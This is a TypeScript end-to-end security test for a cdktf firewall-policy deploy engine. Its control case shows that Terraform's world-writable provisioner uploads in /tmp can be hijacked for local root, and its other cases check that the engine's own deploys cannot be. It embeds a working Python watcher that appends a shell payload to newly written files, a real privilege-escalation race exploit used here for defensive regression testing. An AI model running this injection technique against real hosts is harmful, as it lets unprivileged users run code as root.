import { ChildProcess, spawn, spawnSync } from "child_process";
import { chmodSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "fs";
import { join } from "path";
import { E2eStack } from "../support/e2e";
import { LabFleet, LabHost } from "../support/lab";
import { requireNetnsTools } from "../support/netns";

/**
 * Issue 10, item 1: no local user gets root through a deploy. Terraform uploads every provisioner's `inline` and
 * makes it mode 0777 before it runs it; in `/tmp` (its default `script_path`) any local user can rewrite it. Here
 * an unprivileged process (`nobody`), inside the lab host's own mount namespace, appends a payload to every file
 * it can open for writing among those a deploy writes or runs (Terraform's uploads in /tmp and in the login
 * user's home, the engine's state and record, the persisted rules), while a real `cdktf deploy` runs.
 *
 * The control shows the attacker works: a plain Terraform stack with the default script_path gets its payload
 * run as root. Then deploys as root and as a sudo user: the payload never runs. Runs its own lab (LBP_LAB_ID=6).
 */
jest.setTimeout(10 * 60_000);

const e2e = new E2eStack("e2eupload", "6");
const lab = e2e.lab;
let fleet: LabFleet;
let host: LabHost;
const attackers: ChildProcess[] = [];

/** The attacker: appends a payload to every file it can write under the roots, as long as it runs. */
const WATCHER = `
import os, stat, sys, time
marks, roots = sys.argv[1], sys.argv[2:]
payload = "\\nid -u > %s/payload-ran.$$ 2>/dev/null\\n" % marks
def files():
    for root in roots:
        for dirpath, dirs, names in os.walk(root):
            if dirpath == "/tmp":
                dirs[:] = []  # Terraform uploads straight into /tmp; other tests' directories are not the deploy's
            for name in names:
                if dirpath != "/tmp" or name.startswith("terraform_"):
                    yield os.path.join(dirpath, name)
def ident(p):
    try:
        st = os.lstat(p)
        return (p, st.st_ino) if stat.S_ISREG(st.st_mode) else None
    except OSError:
        return None
# What exists before the attacker starts is not this deploy's (left by earlier runs on this machine).
done = set(ident(p) for p in files())
log = open(os.path.join(marks, "attacker.log"), "a", buffering=1)
log.write("started as uid %d\\n" % os.getuid())
while True:
    for p in files():
        key = ident(p)
        if key is None or key in done:
            continue
        try:
            with open(p, "a") as f:
                f.write(payload)
            done.add(key)
            log.write("modified %s\\n" % p)
        except OSError:
            pass
    time.sleep(0.002)
`;

function sshdPid(x: LabHost): string {
  return readFileSync(join(lab.stateDir, "hosts", x.name, "sshd.pid"), "utf8").trim();
}

/** Start the attacker as nobody in the host's mount and network namespaces; resolves once it runs. */
async function attack(x: LabHost, marks: string): Promise<void> {
  mkdirSync(marks, { recursive: true });
  chmodSync(marks, 0o777);
  writeFileSync(join(marks, "watcher.py"), WATCHER, { mode: 0o644 });
  const roots = ["/tmp", "/root", "/home", "/run/loopback-policy", "/etc/loopback-policy", "/etc/iptables"];
  const p = spawn("nsenter", ["-t", sshdPid(x), "-m", "-n", "runuser", "-u", "nobody", "--", "python3", join(marks, "watcher.py"), marks, ...roots], { detached: true, stdio: "ignore" });
  attackers.push(p);
  for (let i = 0; i < 100 && !readdirSync(marks).includes("attacker.log"); i++) await new Promise((r) => setTimeout(r, 50));
  expect(readFileSync(join(marks, "attacker.log"), "utf8")).toMatch(/started as uid 65534/);
}

function stopAttackers(): void {
  for (const p of attackers.splice(0)) {
    try {
      process.kill(-p.pid!, "SIGKILL");
    } catch {
      // already gone
    }
  }
}

const payloadsRan = (marks: string) => readdirSync(marks).filter((f) => f.startsWith("payload-ran."));
const modified = (marks: string) => readFileSync(join(marks, "attacker.log"), "utf8").split("\n").filter((l) => l.startsWith("modified "));

beforeAll(() => {
  requireNetnsTools();
  e2e.removeState();
  fleet = lab.up(1);
  host = fleet.hosts[0];
  lab.sh(host, "iptables -P INPUT DROP && iptables -A INPUT -p tcp --dport 22 -j ACCEPT");
});

afterEach(() => stopAttackers());

afterAll(() => {
  stopAttackers();
  e2e.tearDown();
});

test("CONTROL: GIVEN Terraform's default script_path (/tmp) THEN the attacker's payload runs as root (the attacker is real)", async () => {
  const marks = join(e2e.work, "control-marks");
  await attack(host, marks);
  const dir = join(e2e.work, "control");
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "main.tf.json"), JSON.stringify({
    resource: { terraform_data: { control: [{
      input: "1",
      connection: [{ type: "ssh", host: host.address, user: "root", private_key: `\${file("${fleet.connection.privateKeyPath}")}`, timeout: "30s" }],
      provisioner: [{ "remote-exec": [{ inline: ["sleep 3", "true"] }] }],
    }] } },
  }));
  const env = { ...process.env, CHECKPOINT_DISABLE: "1" };
  expect(spawnSync("terraform", ["init", "-input=false"], { cwd: dir, env, encoding: "utf8" }).status).toBe(0);
  const r = spawnSync("terraform", ["apply", "-auto-approve", "-input=false"], { cwd: dir, env, encoding: "utf8", timeout: 120_000 });
  expect(r.status).toBe(0);
  await new Promise((res) => setTimeout(res, 500));
  expect(modified(marks).some((l) => /\/tmp\/terraform_\d+\.sh$/.test(l))).toBe(true);
  const ran = payloadsRan(marks);
  expect(ran.length).toBeGreaterThan(0);
  expect(readFileSync(join(marks, ran[0]), "utf8").trim()).toBe("0");
});

test("GIVEN the attacker running through a real cdktf deploy as root THEN its payload never runs and it could modify nothing the deploy wrote or ran", async () => {
  const marks = join(e2e.work, "root-marks");
  await attack(host, marks);
  e2e.writeFleet({ ...fleet, rollbackSeconds: 20 });
  const r = e2e.cdktf("deploy");
  expect(r.output).toContain(`loopback-policy[${host.name}] confirmed over a new SSH connection`);
  expect(r.status).toBe(0);
  await new Promise((res) => setTimeout(res, 500));
  expect(payloadsRan(marks)).toEqual([]);
  expect(modified(marks)).toEqual([]);
  // Terraform empties each upload after it ran (it cannot remove it); the engine removes the empty ones of earlier runs.
  const left = lab.try(host, `nsenter -t ${sshdPid(host)} -m find /root -name '.loopback-policy-*' ! -empty`);
  expect(left.stdout).toBe("");
  const d = e2e.cdktf("destroy");
  expect(d.status).toBe(0);
  expect(payloadsRan(marks)).toEqual([]);
});

test("GIVEN the attacker running through a deploy as a sudo user (home 0700) THEN its payload never runs; GIVEN that home made enterable (0755) THEN the engine refuses to run, naming the fix", async () => {
  const marks = join(e2e.work, "sudo-marks");
  await attack(host, marks);
  const home = spawnSync("sh", ["-c", "getent passwd lbpuser | cut -d: -f6"], { encoding: "utf8" }).stdout.trim();
  const sudoFleet = { ...fleet, rollbackSeconds: 20, hosts: [{ ...host, user: "lbpuser", sudo: true }] };
  e2e.writeFleet(sudoFleet);
  const r = e2e.cdktf("deploy");
  expect(r.output).toContain(`loopback-policy[${host.name}] confirmed over a new SSH connection`);
  expect(r.status).toBe(0);
  expect(payloadsRan(marks)).toEqual([]);
  expect(modified(marks)).toEqual([]);
  expect(e2e.cdktf("destroy").status).toBe(0);

  chmodSync(home, 0o755);
  try {
    e2e.writeFleet({ ...sudoFleet, rollbackSeconds: 21 });
    const unsafe = e2e.cdktf("deploy");
    expect(unsafe.status).not.toBe(0);
    expect(unsafe.output).toMatch(/FAILED: refusing to run .*\.loopback-policy-\d+\.sh: it is mode 777 in .*, which every user can enter \(mode 755\).*Nothing was changed\. Fix: make the login user's home directory private \(chmod 700 ~lbpuser\)/);
    expect(lab.sh(host, "iptables-save -t filter")).not.toContain("lbp:");
  } finally {
    chmodSync(home, 0o700);
  }
});
